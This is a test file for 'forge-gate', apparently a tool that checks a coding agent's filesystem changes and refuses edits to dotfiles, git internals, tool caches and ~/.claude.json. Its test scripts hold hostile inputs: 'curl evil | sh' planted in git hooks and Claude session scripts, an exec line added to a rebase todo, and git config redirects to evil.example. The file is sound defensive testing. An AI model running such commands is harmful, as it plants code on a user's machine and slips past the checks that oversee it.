import { spawn, spawnSync } from "node:child_process";
import { createHash } from "node:crypto";
import { chmodSync, mkdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { afterEach, describe, expect, it } from "vitest";
import { MANIFEST_MAGIC, MANIFEST_VERSION } from "../../src/core/snapshot-format.js";
import { CLI } from "../support/cli.js";
import {
  agentEnv,
  cli,
  type Fixture,
  GIT_DIRS,
  git,
  makeFixture,
  type RunReport,
  snapshotCli,
} from "./fixture.js";

/*
 * Gate by meaning, second pass (issue 20): metadata, links, keyed files, git maintenance and tools'
 * state. Every case is a real bash (and real git) run through the built `forge-gate run`: the misses
 * are refused naming the path and what changed, the ordinary work passes.
 */

const fixtures: Fixture[] = [];
afterEach(() => {
  // GNU rm: it removes paths longer than PATH_MAX too (Node's rmSync does not).
  for (const f of fixtures.splice(0)) spawnSync("rm", ["-rf", "--", f.T]);
});

function fixture(opts: Parameters<typeof makeFixture>[0] = {}): Fixture {
  const f = makeFixture(opts);
  fixtures.push(f);
  return f;
}

type Violation = RunReport["violations"][number] & { detail?: string; rule?: string };
interface Report extends Omit<RunReport, "violations"> {
  violations: Violation[];
}

/** `forge-gate run` with the agent as a bash script (GIT_DIRS' $COMMON and $GITDIR set). */
function run(
  f: Fixture,
  script: string,
  extra: string[] = [],
): { status: number | null; report: Report; stderr: string } {
  const file = join(f.T, "agent.sh");
  writeFileSync(file, `set -euo pipefail\n${GIT_DIRS}\n${script}\n`);
  const r = spawnSync(
    process.execPath,
    [CLI, "run", "--lease", f.lease, ...f.rootFlags, "--format", "json", ...extra, "--", "bash", file],
    { cwd: f.wt, env: agentEnv(f), encoding: "utf8", maxBuffer: 64 * 1024 * 1024 },
  );
  try {
    return {
      status: r.status,
      report: JSON.parse(r.stdout.trim().split("\n").pop() ?? ""),
      stderr: r.stderr,
    };
  } catch {
    throw new Error(`no report (exit ${r.status}): ${r.stderr}`);
  }
}

/** Refused, with a violation for `path` whose detail (or rule) says `what`. */
function expectRefused(r: ReturnType<typeof run>, path: string, what: RegExp): void {
  const v = r.report.violations.find((x) => x.path === path);
  expect(v, `${path} not refused: ${JSON.stringify(r.report.violations)}\n${r.stderr}`).toBeDefined();
  expect(`${v!.detail ?? ""} ${v!.rule ?? ""}`).toMatch(what);
  expect(r.status).toBe(1);
}

function expectPass(r: ReturnType<typeof run>): void {
  expect(r.report.violations, r.stderr).toEqual([]);
  expect(r.status).toBe(0);
}

const isRoot = process.getuid?.() === 0;
const hasAcl = spawnSync("setfacl", ["--version"]).status === 0;
const hasXattr = spawnSync("setfattr", ["--version"]).status === 0;

describe("metadata is meaning for high-value files and the directories above them", () => {
  it.runIf(hasAcl)("an ACL giving another user write on ~/.bashrc is refused, naming the ACL", () => {
    const f = fixture();
    expectRefused(run(f, "setfacl -m u:nobody:rw ~/.bashrc"), join(f.home, ".bashrc"), /ACL added/);
  });

  it("a chgrp of ~/.profile is refused, naming the group", () => {
    const f = fixture();
    writeFileSync(join(f.home, ".profile"), "# profile\n");
    expectRefused(
      run(f, "chgrp nogroup ~/.profile"),
      join(f.home, ".profile"),
      /group changed \(gid \d+ → \d+\)/,
    );
  });

  it.runIf(isRoot)("a chown of ~/.gitconfig is refused, naming the owner", () => {
    const f = fixture();
    writeFileSync(join(f.home, ".gitconfig"), "[user]\n\tname = a\n");
    expectRefused(run(f, "chown nobody ~/.gitconfig"), join(f.home, ".gitconfig"), /owner changed/);
  });

  it.runIf(hasXattr)("an xattr on ~/.ssh/authorized_keys is refused, naming the xattr", () => {
    const f = fixture();
    mkdirSync(join(f.home, ".ssh"));
    writeFileSync(join(f.home, ".ssh", "authorized_keys"), "ssh-ed25519 AAAA k\n");
    expectRefused(
      run(f, "setfattr -n user.origin -v agent ~/.ssh/authorized_keys"),
      join(f.home, ".ssh", "authorized_keys"),
      /xattr user\.origin added/,
    );
  });

  it.runIf(hasAcl)("an ACL hidden behind a same-content rewrite is still refused", () => {
    const f = fixture();
    expectRefused(
      run(f, 'setfacl -m u:nobody:rw ~/.bashrc\nc="$(cat ~/.bashrc)"; printf "%s\\n" "$c" > ~/.bashrc'),
      join(f.home, ".bashrc"),
      /ACL added/,
    );
  });

  it.runIf(hasAcl)(
    "an ACL on HOME itself (above ~/.bashrc) is refused even when HOME's mtime moved too",
    () => {
      const f = fixture({ writeRoots: '[".", "~/scratch"]' });
      expectRefused(run(f, "setfacl -m u:nobody:rwx ~\nmkdir ~/scratch"), f.home, /ACL added/);
    },
  );

  it.runIf(hasAcl)("a default ACL on ~/.ssh is refused", () => {
    const f = fixture();
    mkdirSync(join(f.home, ".ssh"));
    writeFileSync(join(f.home, ".ssh", "config"), "Host x\n");
    expectRefused(run(f, "setfacl -d -m u:nobody:rw ~/.ssh"), join(f.home, ".ssh"), /default ACL added/);
  });

  it.runIf(hasAcl)("an ACL on git's config is never set aside as bookkeeping", () => {
    const f = fixture();
    expectRefused(
      run(f, 'setfacl -m u:nobody:rw "$COMMON/config"\ngit commit -q --allow-empty -m x'),
      join(f.repo, ".git", "config"),
      /ACL added/,
    );
  });

  it("ordinary work passes: a same-content rewrite of ~/.bashrc, chmod and xattrs inside the worktree", () => {
    const f = fixture();
    expectPass(
      run(
        f,
        [
          "sed -i 's/nothing-there//' ~/.bashrc",
          "echo x > tool.sh && chmod +x tool.sh",
          hasXattr ? "setfattr -n user.k -v v tool.sh" : "true",
          "git add tool.sh && git commit -qm tool",
        ].join("\n"),
      ),
    );
  });
});

describe("a symlink is judged by what it is", () => {
  it("~/.bashrc replaced by a link into the worktree is refused (the name itself is outside the lease)", () => {
    const f = fixture();
    expectRefused(
      run(f, 'echo "alias ls=evil" > evil\nln -sf "$WT/evil" ~/.bashrc'),
      join(f.home, ".bashrc"),
      /replaced by a symlink/,
    );
  });

  it("a new link in HOME that points into the worktree is refused", () => {
    const f = fixture();
    const r = run(f, 'echo x > rc\nln -s "$WT/rc" ~/.zshrc');
    expect(r.report.violations.map((v) => v.path)).toContain(join(f.home, ".zshrc"));
    expect(r.status).toBe(1);
  });

  it("a worktree link to ~/.bashrc, to the main checkout or to another worktree is refused, as before", () => {
    const f = fixture();
    const r = run(f, 'ln -s ~/.bashrc rc\nln -s "$REPO/README.md" main-readme\nln -s "$REPO/src" main-src');
    const escapes = r.report.violations.filter((v) => v.reason === "symlink_escape").map((v) => v.path);
    expect(escapes.sort()).toEqual([join(f.wt, "main-readme"), join(f.wt, "main-src"), join(f.wt, "rc")]);
    expect(r.status).toBe(1);
  });

  it.runIf(spawnSync("/usr/bin/python3", ["-c", "import venv"]).status === 0)(
    "python3 -m venv (its interpreter links into the system's Python) passes, as root too",
    () => {
      const f = fixture();
      expectPass(run(f, "/usr/bin/python3 -m venv --without-pip .venv\n.venv/bin/python -c 'print(1)'"));
    },
  );

  it("a link to installed software that is not only run (/etc/passwd) is still an escape", () => {
    const f = fixture();
    const r = run(f, "ln -s /etc/passwd users\nln -s /usr/bin/env env");
    expect(r.report.violations.map((v) => [v.path, v.reason])).toEqual([
      [join(f.wt, "users"), "symlink_escape"],
    ]);
  });

  it("a path longer than PATH_MAX inside the worktree is resolved piecewise: ordinary work passes, a link out is refused", () => {
    const f = fixture();
    const deep =
      'd=$(printf "d%.0s" $(seq 1 200)); mkdir deep; cd deep; for i in $(seq 1 25); do mkdir $d; cd $d; done';
    const clean = run(f, `${deep}\necho x > file\nln -s ../${"d".repeat(200)} up`);
    expectPass(clean);
    const f2 = fixture();
    const out = run(f2, `${deep}\nln -s ~/.bashrc rc`);
    expect(out.report.violations.map((v) => [v.reason, v.resolved])).toEqual([
      ["symlink_escape", join(f2.home, ".bashrc")],
    ]);
    expect(out.report.violations[0]!.path.length).toBeGreaterThan(4096);
  });

  it("another program's outward link in a shared granted temp root passes; one into HOME is refused", async () => {
    const shared = (f: Fixture) => {
      const dir = join(f.tmp, "shared");
      mkdirSync(dir);
      chmodSync(dir, 0o1777);
      return dir;
    };
    const f = fixture({ writeRoots: '[".", "../tmp/shared"]' });
    const dir = shared(f);
    // Another program on the machine, not started by the run, links out of the shared temp root
    // while the run is under way (the agent waits for it).
    const other = spawn(
      "bash",
      [
        "-c",
        // The agent says it runs in the shared root itself: the capture layer keeps the rest of $T private.
        `while [ ! -e "${dir}/started" ]; do sleep 0.05; done; ln -s /run/other-program.sock "${dir}/other.sock"`,
      ],
      { stdio: "ignore" },
    );
    const done = new Promise((r) => other.once("exit", r));
    const r = run(
      f,
      `touch "${dir}/started"\nfor i in $(seq 1 200); do [ -L "${dir}/other.sock" ] && break; sleep 0.05; done\necho ok > notes.txt`,
    );
    other.kill();
    await done;
    expect(r.report.changes.map((c) => c.path)).toContain(join(dir, "other.sock"));
    expectPass(r);
    const g = fixture({ writeRoots: '[".", "../tmp/shared"]' });
    const into = run(g, `ln -s ~/.bashrc "${shared(g)}/rc"`);
    expect(into.report.violations.map((v) => v.path)).toEqual([join(g.tmp, "shared", "rc")]);
  });
});

const CLAUDE_JSON = JSON.stringify({ numStartups: 3, mcpServers: {}, projects: {} });

function claudeFixture(): Fixture {
  const f = fixture({ leaseExtra: "agent: claude-code\n" });
  writeFileSync(join(f.home, ".claude.json"), CLAUDE_JSON);
  return f;
}

describe("a keyed file (~/.claude.json) must stay what it was", () => {
  it("replaced by a symlink to a copy in the worktree with the same keys: refused", () => {
    const f = claudeFixture();
    expectRefused(
      run(f, 'cp ~/.claude.json c.json\nln -sf "$WT/c.json" ~/.claude.json'),
      join(f.home, ".claude.json"),
      /replaced by a symlink/,
    );
  });

  it("replaced by a hardlink to a file in the worktree: refused (detection only); cannot be made under the capture layer", () => {
    const f = claudeFixture();
    expectRefused(
      run(f, "cp ~/.claude.json c.json\nln -f c.json ~/.claude.json", ["--attribution", "none"]),
      join(f.home, ".claude.json"),
      /hardlinked: 2 names/,
    );
    // The capture: HOME is an overlay, the worktree the host's; a link between them crosses mounts.
    const g = claudeFixture();
    const captured = run(g, "cp ~/.claude.json c.json\nln -f c.json ~/.claude.json");
    expect(captured.report.violations).toEqual([]);
    expect(readFileSync(join(g.home, ".claude.json"), "utf8")).toBe(CLAUDE_JSON);
  });

  it("a link that was there before: writing only its target in the worktree still has its keys judged", () => {
    const f = claudeFixture();
    writeFileSync(join(f.wt, "c.json"), CLAUDE_JSON);
    rmSync(join(f.home, ".claude.json"));
    symlinkSync(join(f.wt, "c.json"), join(f.home, ".claude.json"));
    const script = `node -e 'const fs=require("fs");const d=JSON.parse(fs.readFileSync("c.json"));d.mcpServers={x:{command:"sh"}};fs.writeFileSync("c.json",JSON.stringify(d))'`;
    expectRefused(run(f, script), join(f.home, ".claude.json"), /mcpServers added/);
    // Session keys through the same link pass.
    const g = claudeFixture();
    writeFileSync(join(g.wt, "c.json"), CLAUDE_JSON);
    rmSync(join(g.home, ".claude.json"));
    symlinkSync(join(g.wt, "c.json"), join(g.home, ".claude.json"));
    const session = `node -e 'const fs=require("fs");const d=JSON.parse(fs.readFileSync("c.json"));d.numStartups++;fs.writeFileSync("c.json",JSON.stringify(d))'`;
    expectPass(run(g, session));
  });

  it.runIf(isRoot)("a new owner: refused", () => {
    const f = claudeFixture();
    expectRefused(run(f, "chown nobody ~/.claude.json"), join(f.home, ".claude.json"), /owner changed/);
  });

  it("Claude Code's own rewrite (temporary file renamed over it, session keys only) passes", () => {
    const f = claudeFixture();
    expectPass(
      run(
        f,
        `node -e 'const fs=require("fs");const p=process.env.HOME+"/.claude.json";const d=JSON.parse(fs.readFileSync(p));d.numStartups++;fs.writeFileSync(p+".tmp",JSON.stringify(d));fs.renameSync(p+".tmp",p)'`,
      ),
    );
  });
});

/** A commit whose reflog entry is `days` old (the reflog takes the committer date). */
function oldCommit(cwd: string, days: number, msg: string): void {
  const when = `${Math.floor(Date.now() / 1000) - days * 86400} +0000`;
  git(["commit", "-q", "--allow-empty", "-m", msg], cwd, { GIT_COMMITTER_DATE: when, GIT_AUTHOR_DATE: when });
}

describe("git maintenance is judged by meaning", () => {
  /** A sibling worktree with a HEAD reflog like `git worktree add` leaves (an entry without a message). */
  function withSibling(f: Fixture): string {
    const sib = join(f.T, "sib");
    git(["worktree", "add", "-q", "-b", "sib", sib], f.repo);
    writeFileSync(join(sib, "s.txt"), "s\n");
    git(["add", "s.txt"], sib);
    git(["commit", "-q", "-m", "s"], sib);
    git(["commit", "-q", "--amend", "-m", "s2"], sib);
    git(["reset", "-q", "--hard", "HEAD~1"], sib);
    return sib;
  }

  it("git gc with a sibling worktree (its HEAD reflog rewritten, normalised) passes", () => {
    const f = fixture();
    withSibling(f);
    expectPass(run(f, "echo x > x && git add x && git commit -qm x\ngit gc -q"));
  });

  it("git gc --auto after large commits, with a sibling worktree, passes", () => {
    const f = fixture();
    withSibling(f);
    expectPass(
      run(
        f,
        "for i in $(seq 1 40); do echo $i > f$i; git add f$i; git commit -qm $i; done\ngit -c gc.auto=1 -c gc.autoDetach=false gc --auto -q",
      ),
    );
  });

  it("git gc in a long-lived repository (entries past 90 days, unreachable ones past 30) passes", () => {
    const f = fixture();
    git(["branch", "old"], f.repo);
    git(["checkout", "-q", "old"], f.repo);
    oldCommit(f.repo, 200, "ancient");
    oldCommit(f.repo, 100, "old");
    oldCommit(f.repo, 50, "rebased away");
    git(["reset", "-q", "--hard", "HEAD~1"], f.repo);
    oldCommit(f.repo, 40, "kept");
    git(["checkout", "-q", "main"], f.repo);
    const before = readFileSync(join(f.repo, ".git", "logs", "refs", "heads", "old"), "utf8").split(
      "\n",
    ).length;
    expectPass(run(f, "git gc -q"));
    const after = readFileSync(join(f.repo, ".git", "logs", "refs", "heads", "old"), "utf8").split(
      "\n",
    ).length;
    // The premise: gc did expire entries of another branch.
    expect(after).toBeLessThan(before);
  });

  it("git reflog expire --expire=now --all (every branch's recovery data) is refused, naming the reflogs", () => {
    const f = fixture();
    withSibling(f);
    const r = run(f, "git reflog expire --expire=now --all");
    expectRefused(
      r,
      join(f.repo, ".git", "logs", "refs", "heads", "main"),
      /reflog of refs\/heads\/main: .*removed that git's expiry keeps/,
    );
    expect(r.report.violations.map((v) => v.path)).toContain(
      join(f.repo, ".git", "worktrees", "sib", "logs", "HEAD"),
    );
  });

  it("an entry forged into a sibling worktree's HEAD reflog is refused", () => {
    const f = fixture();
    withSibling(f);
    expectRefused(
      run(
        f,
        `head="$(git rev-parse HEAD)"\nprintf "%s %s Evil <e@x> 1700000000 +0000\\tcheckout: moving\\n" "$head" "$head" >> "$COMMON/worktrees/sib/logs/HEAD"`,
      ),
      join(f.repo, ".git", "worktrees", "sib", "logs", "HEAD"),
      /HEAD reflog gained or changed 1 entry/,
    );
  });

  const work =
    "for i in 1 2 3 4 5; do echo $i > f$i; git add f$i; git commit -qm $i; done\ngit repack -q\necho y > y && git add y && git commit -qm y";
  for (const [name, cmd] of [
    ["maintenance run --task=loose-objects (its loose-*.pack)", "git maintenance run --task=loose-objects"],
    ["maintenance run --task=incremental-repack", "git maintenance run --task=incremental-repack"],
    ["maintenance run --task=commit-graph", "git maintenance run --task=commit-graph"],
    ["maintenance run (the default gc task)", "git maintenance run"],
    ["gc writing reachability bitmaps", "git -c repack.writeBitmaps=true gc -q"],
    [
      "a multi-pack-index with a bitmap",
      "git repack -q -d --write-midx\ngit multi-pack-index write --bitmap",
    ],
    ["gc --cruft", "git gc --cruft -q"],
  ] as const) {
    it(`git ${name} passes`, () => {
      expectPass(run(fixture(), `${work}\n${cmd}`));
    });
  }

  it("a pack git cannot verify, named like maintenance's, is refused", () => {
    const f = fixture();
    const r = run(f, `head -c 64 /dev/urandom > "$COMMON/objects/pack/loose-${"ab".repeat(20)}.pack"`);
    expect(r.report.violations.map((v) => v.path)).toContain(
      join(f.repo, ".git", "objects", "pack", `loose-${"ab".repeat(20)}.pack`),
    );
    expect(r.status).toBe(1);
  });
});

describe("suspected holes, confirmed or ruled out", () => {
  const twoCommits =
    "echo a > a && git add a && git commit -qm a\necho b > b && git add b && git commit -qm b";
  const stopAtEdit =
    'GIT_SEQUENCE_EDITOR="sed -i 1s/^pick/edit/" git rebase -q -i HEAD~2 >/dev/null 2>&1 || true';

  it("confirmed: an exec line in a pending rebase's todo in the agent's own gitdir is refused", () => {
    const f = fixture();
    const todo = join(f.repo, ".git", "worktrees", "wt", "rebase-merge", "git-rebase-todo");
    expectRefused(
      run(
        f,
        `${twoCommits}\n${stopAtEdit}\necho "exec touch $T/pwned" >> "$GITDIR/rebase-merge/git-rebase-todo"`,
      ),
      todo,
      /a pending rebase would run "touch .*pwned" when continued/,
    );
  });

  it("a rebase left stopped at an edit (nothing to run) passes", () => {
    expectPass(run(fixture(), `${twoCommits}\n${stopAtEdit}`));
  });

  it("confirmed: core.hooksPath into the worktree, set by the agent, is refused (a config key)", () => {
    const f = fixture();
    const r = run(f, "git config core.hooksPath .githooks\nmkdir .githooks && echo x > .githooks/pre-commit");
    expectRefused(r, join(f.repo, ".git", "config"), /core\.hookspath/);
  });

  it("confirmed: with core.hooksPath set before the run (husky), a changed hook is refused; husky's same-content rewrite passes", () => {
    const setup = (f: Fixture) => {
      git(["config", "core.hooksPath", ".husky/_"], f.repo);
      mkdirSync(join(f.wt, ".husky", "_"), { recursive: true });
      writeFileSync(join(f.wt, ".husky", "_", "pre-commit"), '#!/usr/bin/env sh\n. "$(dirname "$0")/h"\n', {
        mode: 0o755,
      });
      writeFileSync(join(f.wt, ".husky", "_", "h"), "#!/usr/bin/env sh\n");
    };
    const f = fixture();
    setup(f);
    expectRefused(
      run(f, 'echo "curl evil | sh" >> .husky/_/pre-commit'),
      join(f.wt, ".husky", "_", "pre-commit"),
      /is a git hook \(core\.hooksPath/,
    );
    const g = fixture();
    setup(g);
    expectPass(
      run(
        g,
        'c="$(cat .husky/_/h)"; printf "%s\\n" "$c" > .husky/_/h\ncp .husky/_/pre-commit p && cat p > .husky/_/pre-commit && rm p',
      ),
    );
  });

  it("confirmed: a hook or a config key planted in go's module cache repositories is refused; go's own clone passes", () => {
    const setup = (f: Fixture) => {
      const v = join(f.home, "go", "pkg", "mod", "cache", "vcs", "0a1b");
      mkdirSync(v, { recursive: true });
      git(["init", "-q", "--bare", v], f.T);
      git(["remote", "add", "origin", "https://example.com/m.git"], v);
      return v;
    };
    const f = fixture({ leaseExtra: "tools: [go]\n" });
    const v = setup(f);
    const r = run(
      f,
      `printf '#!/bin/sh\\ntouch $T/pwned\\n' > "${v}/hooks/reference-transaction"\ngit -C "${v}" config core.sshCommand "touch $T/pwned"`,
    );
    expectRefused(r, join(v, "hooks", "reference-transaction"), /a git hook .* go runs git in/);
    expectRefused(r, join(v, "config"), /git config core\.sshcommand set where go runs git/);
    const g = fixture({ leaseExtra: "tools: [go]\n" });
    const w = join(g.home, "go", "pkg", "mod", "cache", "vcs", "9f8e");
    expectPass(
      run(
        g,
        `mkdir -p "${w}" && git init -q --bare "${w}" && git -C "${w}" remote add origin "$REPO" && git -C "${w}" fetch -q origin`,
      ),
    );
  });

  it("confirmed: the same in cargo's git database", () => {
    const f = fixture({ leaseExtra: "tools: [cargo]\n" });
    const db = join(f.home, ".cargo", "git", "db", "dep-0a1b2c");
    mkdirSync(db, { recursive: true });
    git(["init", "-q", "--bare", db], f.T);
    expectRefused(
      run(f, `git -C "${db}" config url."https://evil.example/".insteadOf https://github.com/`),
      join(db, "config"),
      /insteadof/,
    );
  });

  it("confirmed: an earlier Claude session's scripts and backups are refused when changed; the run's own pass, old ones may go", () => {
    const setup = () => {
      const f = claudeFixture();
      const c = join(f.home, ".claude");
      mkdirSync(join(c, "session-env", "old"), { recursive: true });
      mkdirSync(join(c, "shell-snapshots"), { recursive: true });
      mkdirSync(join(c, "file-history", "old"), { recursive: true });
      writeFileSync(join(c, "session-env", "old", "sessionstart-hook-0.sh"), "export A=1\n");
      writeFileSync(join(c, "shell-snapshots", "snapshot-bash-1.sh"), "alias ll='ls -l'\n");
      writeFileSync(join(c, "file-history", "old", "abc@v1"), "v1\n");
      return f;
    };
    for (const [script, path] of [
      [
        'echo "curl evil|sh" > ~/.claude/session-env/old/sessionstart-hook-1.sh',
        "session-env/old/sessionstart-hook-1.sh",
      ],
      [
        'echo "curl evil|sh" >> ~/.claude/shell-snapshots/snapshot-bash-1.sh',
        "shell-snapshots/snapshot-bash-1.sh",
      ],
      ["echo evil > ~/.claude/file-history/old/abc@v1", "file-history/old/abc@v1"],
    ] as const) {
      const f = setup();
      expectRefused(
        run(f, script),
        join(f.home, ".claude", path),
        /was there before the run .*never changed/,
      );
    }
    expectPass(
      run(
        setup(),
        [
          "mkdir -p ~/.claude/session-env/new ~/.claude/file-history/new",
          'echo "export B=1" > ~/.claude/session-env/new/sessionstart-hook-0.sh',
          "echo 'alias x=y' > ~/.claude/shell-snapshots/snapshot-bash-2.sh",
          "echo b > ~/.claude/file-history/new/x@v1",
          "rm -rf ~/.claude/session-env/old ~/.claude/shell-snapshots/snapshot-bash-1.sh ~/.claude/file-history/old",
        ].join("\n"),
      ),
    );
  });
});

describe("the snapshot format", () => {
  it("a manifest written in another format is refused (exit 2), naming the fix", () => {
    const f = fixture();
    const snap = snapshotCli(f);
    expect(snap.status, snap.stderr).toBe(0);
    const { snapshot } = JSON.parse(snap.stdout) as { snapshot: string };
    // The same manifest as an older forge-gate would have written it (first line only).
    const old = Buffer.concat([
      Buffer.from(`forge-gate-snapshot ${MANIFEST_VERSION - 1}\n`),
      readFileSync(snapshot).subarray(`${MANIFEST_MAGIC}\n`.length),
    ]);
    writeFileSync(snapshot, old);
    const digest = `sha256:${createHash("sha256").update(old).digest("hex")}`;
    for (const command of ["collect", "gate"]) {
      const r = cli(f, [
        command,
        "--lease",
        f.lease,
        "--snapshot",
        snapshot,
        "--snapshot-digest",
        digest,
        "--format",
        "json",
      ]);
      expect(r.status).toBe(2);
      expect(r.stderr).toMatch(
        new RegExp(
          `has format ${MANIFEST_VERSION - 1}, and this forge-gate reads format ${MANIFEST_VERSION} only .*older`,
        ),
      );
      expect(r.stderr).toMatch(/Take a new snapshot with this version of forge-gate/);
      if (command === "gate")
        expect(JSON.parse(r.stdout)).toMatchObject({ verdict: "error", error: { code: "snapshot_version" } });
    }
  });
});
